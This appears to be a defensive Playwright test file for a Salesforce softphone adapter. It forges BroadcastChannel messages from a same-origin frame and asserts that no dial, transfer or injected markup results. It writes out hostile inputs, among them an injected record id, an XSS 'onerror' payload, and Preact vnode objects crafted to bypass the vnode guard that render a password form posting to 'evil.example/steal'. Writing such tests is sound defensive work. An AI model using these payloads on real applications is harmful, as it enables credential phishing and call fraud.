import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import type { Frame, Page } from 'playwright-core';
import {
  EmulatorSession,
  assertOneTaskPerCallAfterSettle,
  phoneState,
  tap,
  waitForHost
} from '../support/emulator-session';
import { callOut, phoneFrame, until } from './rows';

/**
 * Fault-matrix row: another same-origin page (another Visualforce page or static resource of the
 * org, here a frame of the adapter origin inside a Lightning tab, so it shares the softphones'
 * storage partition) posts forged messages on the tabs' BroadcastChannel while the agent works:
 * dial and transfer requests, a malformed wrap-up, and a vnode-shaped `mirror` claiming to come
 * from the leader (whose tab id it sniffed off the channel). Nothing is dialled or transferred,
 * nothing is rendered as markup, and the agent's call is still logged — once.
 */
const session = new EmulatorSession();
before(() => session.open());
after(() => session.close());

const CHANNEL = 'switchboard:tabs:v1';

interface Envelope {
  source: string;
  version: number;
  from: string;
  message: { type: string; state?: unknown };
}

/** A page of the adapter origin inside `host` (a 404 page is enough to run script there). */
async function attackerFrame(host: Page): Promise<Frame> {
  await host.evaluate((src) => {
    const frame = document.createElement('iframe');
    frame.src = src;
    frame.title = 'another Visualforce page';
    document.body.append(frame);
  }, `${session.adapterOrigin}/apex/Another_Page_Of_The_Org`);
  let found: Frame | undefined;
  await until(
    'the attacker frame',
    () =>
      (found = host.frames().find((f) => f.url().includes('/apex/Another_Page_Of_The_Org'))) !== undefined,
    5000
  );
  await found!.waitForLoadState();
  await found!.evaluate((name) => {
    const w = window as unknown as { heard: Envelope[]; channel: BroadcastChannel };
    w.heard = [];
    w.channel = new BroadcastChannel(name);
    w.channel.onmessage = (e: MessageEvent<Envelope>) => w.heard.push(e.data);
  }, CHANNEL);
  return found!;
}

/** Posts `message` in a well-formed envelope, as a real tab would. */
function forge(attacker: Frame, message: unknown, from = 'attacker-tab'): Promise<void> {
  return attacker.evaluate(
    ([m, f]) =>
      (window as unknown as { channel: BroadcastChannel }).channel.postMessage({
        source: 'switchboard-tab',
        version: 1,
        from: f,
        message: m
      }),
    [message, from] as const
  );
}

/** What the attacker heard the leader mirror last (its tab id and state). */
function lastMirror(attacker: Frame): Promise<Envelope | null> {
  return attacker.evaluate(
    () =>
      [...(window as unknown as { heard: Envelope[] }).heard]
        .reverse()
        .find((e) => e?.message?.type === 'mirror') ?? null
  );
}

/** Markup that only the attacker could have put there. */
const ATTACKER_MARKUP = '[data-attacker], input[type="password"], form[action]';

async function attackerMarkup(frames: Frame[]): Promise<number> {
  let count = 0;
  for (const f of frames) count += await f.locator(ATTACKER_MARKUP).count();
  return count;
}

/** Whether attacker markup shows up in `frame` at any moment within `ms` (the leader re-mirrors soon after). */
function markupAppears(frame: Frame, ms: number): Promise<boolean> {
  return frame
    .locator(ATTACKER_MARKUP)
    .first()
    .waitFor({ state: 'attached', timeout: ms })
    .then(
      () => true,
      () => false
    );
}

/** Two tabs of one agent (the first leads) and an attacker frame in the second tab's Lightning page. */
async function twoTabsAndAttacker(): Promise<{
  leader: Page;
  leaderPhone: Frame;
  follower: Page;
  followerPhone: Frame;
  attacker: Frame;
}> {
  const { page: leader, phone: leaderPhone } = await session.newPage();
  const follower = await session.newPageInSameContext(leader);
  await waitForHost(follower, (s) => s.initialized && s.clickToDialEnabled, 'the second tab ready');
  const followerPhone = await phoneFrame(follower);
  await followerPhone.locator('[data-id="elsewhere"]').waitFor({ state: 'attached', timeout: 5000 });
  await leader.locator('[data-id="utility-item"]').click();
  await waitForHost(leader, (s) => s.panel.visible, 'the leader panel open');
  return { leader, leaderPhone, follower, followerPhone, attacker: await attackerFrame(follower) };
}

describe('fault matrix: forged tab messages', () => {
  test('forged dials and transfers: nothing dialled or transferred, the real call logged once', async () => {
    const { leader, leaderPhone, follower, attacker } = await twoTabsAndAttacker();

    // 1. Idle: dial requests with a forged record id, an over-long number, a number that is an object.
    const dials = [
      {
        type: 'event',
        event: {
          type: 'DIAL_REQUESTED',
          callId: 'forged-1',
          input: '+1 212 555 0143',
          context: {
            who: { id: 'not-an-id;DROP', name: 'Mallory', objectType: 'Contact' },
            what: null,
            params: null
          }
        }
      },
      {
        type: 'event',
        event: {
          type: 'DIAL_REQUESTED',
          callId: 'forged-2',
          input: `+1 900 555 0199${' '.repeat(10_000)}`,
          context: null
        }
      },
      {
        type: 'event',
        event: {
          type: 'DIAL_REQUESTED',
          callId: 'forged-3',
          input: { number: '+19005550199' },
          context: null
        }
      },
      {
        type: 'dial',
        dial: {
          number: '+19005550199',
          recordId: 'not-an-id;DROP',
          recordName: null,
          objectType: null,
          params: null
        }
      }
    ];
    for (const m of dials) await forge(attacker, m);
    await leader.waitForTimeout(1500);
    assert.equal(await phoneState(leaderPhone), 'idle', 'nothing dialled');
    assert.equal(
      (await waitForHost(leader, () => true, 'state')).calls.filter(
        (c) => c.methodName === 'setSoftphoneItemLabel' && /Calling/.test(String(c.args.label))
      ).length,
      0
    );

    // 2. On a real call: transfers to nowhere sensible.
    await callOut(leader, leaderPhone, '+1 212 555 0143');
    for (const target of [
      42,
      ['+14155550100'],
      'sip:mallory@evil.example',
      `+1 415 555 0100${'x'.repeat(200)}`
    ]) {
      await forge(attacker, { type: 'event', event: { type: 'TRANSFER', target } });
    }
    await leader.waitForTimeout(1000);
    assert.equal(await phoneState(leaderPhone), 'connected', 'not transferred, still on the call');
    await tap(leader, leaderPhone, '[data-id="hangup-button"]');
    await tap(leader, leaderPhone, '[data-id="save-log"]');
    await leaderPhone.locator('li[data-status="saved"]').waitFor({ timeout: 10_000 });
    await assertOneTaskPerCallAfterSettle(session.org, 1);
    assert.notEqual(session.org.tasks()[0]!.fields.CallDisposition, 'Transferred');
    assert.doesNotMatch(JSON.stringify(session.org.tasks()[0]!.fields), /evil|not-an-id|9005550199/);
    await follower.close();
    await leader.close();
  });

  test("a vnode-shaped mirror (with the sniffed leader id) and a malformed wrap-up: nothing rendered as markup, the call logged once with the agent's notes", async () => {
    const { leader, leaderPhone, follower, followerPhone, attacker } = await twoTabsAndAttacker();
    await callOut(leader, leaderPhone, '+1 212 555 0143');

    // 3. A vnode-shaped mirror, from the leader's own tab id (sniffed) and from a stranger.
    const mirror = await lastMirror(attacker);
    assert.ok(mirror, 'the attacker heard the leader mirror its state');
    // Watch from before the post: the leader re-mirrors its true state soon after, so markup may show only briefly.
    const appeared = markupAppears(followerPhone, 2000);
    await attacker.evaluate(
      ([env, channelFrom]) => {
        // An own `constructor: undefined` survives structured clone and defeats Preact's vnode guard.
        const input = {
          type: 'input',
          props: { type: 'password', name: 'password', 'data-attacker': 'pw' },
          key: null,
          ref: null,
          __k: null,
          __: null,
          __b: 0,
          __e: null,
          __c: null,
          __v: -1,
          __i: -1,
          __u: 0,
          constructor: undefined
        };
        const form = {
          type: 'form',
          props: { action: 'https://evil.example/steal', 'data-attacker': 'form', children: [input] },
          key: null,
          ref: null,
          __k: null,
          __: null,
          __b: 0,
          __e: null,
          __c: null,
          __v: -2,
          __i: -1,
          __u: 0,
          constructor: undefined
        };
        // One field at a time, everything else as the leader sent it, so a field that breaks the
        // follower's rendering cannot hide what another would have rendered.
        const inNotice = structuredClone(env.message.state) as Record<string, Record<string, unknown> | null>;
        inNotice.notice = { kind: 'error', text: form };
        const inCallerName = structuredClone(env.message.state) as Record<
          string,
          Record<string, unknown> | null
        >;
        if (inCallerName.call) {
          inCallerName.call.who = null; // the view shows the record's name first, the caller's name otherwise
          inCallerName.call.callerName = form;
        }
        const channel = (window as unknown as { channel: BroadcastChannel }).channel;
        for (const state of [inNotice, inCallerName]) {
          for (const from of [env.from, channelFrom])
            channel.postMessage({
              source: 'switchboard-tab',
              version: 1,
              from,
              message: { type: 'mirror', state }
            });
        }
      },
      [mirror!, 'attacker-tab'] as const
    );
    assert.equal(await appeared, false, 'no attacker markup rendered in the follower, even for a moment');
    assert.equal(await attackerMarkup([followerPhone, leaderPhone]), 0, 'no attacker markup in any tab');

    // 4. Wrap-up: the agent types notes, then a malformed wrap-up edit arrives just before Save.
    await tap(leader, leaderPhone, '[data-id="hangup-button"]');
    await leaderPhone.locator('[data-id="wrapup-form"]').waitFor({ timeout: 5000 });
    await leaderPhone.locator('[data-id="notes"]').fill('Real notes from the agent');
    await forge(attacker, {
      type: 'event',
      event: { type: 'WRAP_UP_EDITED', disposition: 'Completed', notes: 42 }
    });
    await forge(attacker, {
      type: 'event',
      event: { type: 'WRAP_UP_EDITED', disposition: '<img src=x onerror=alert(1)>', notes: 'forged' }
    });
    await leader.waitForTimeout(300);
    await tap(leader, leaderPhone, '[data-id="save-log"]');
    await leaderPhone.locator('li[data-status="saved"]').waitFor({ timeout: 10_000 });
    assert.equal(await attackerMarkup([followerPhone, leaderPhone]), 0);

    await assertOneTaskPerCallAfterSettle(session.org, 1);
    const task = session.org.tasks()[0]!;
    assert.match(String(task.fields.Description), /^Real notes from the agent/);
    assert.doesNotMatch(JSON.stringify(task.fields), /evil|onerror|not-an-id|9005550199/);
    await follower.close();
    await leader.close();
  });
});
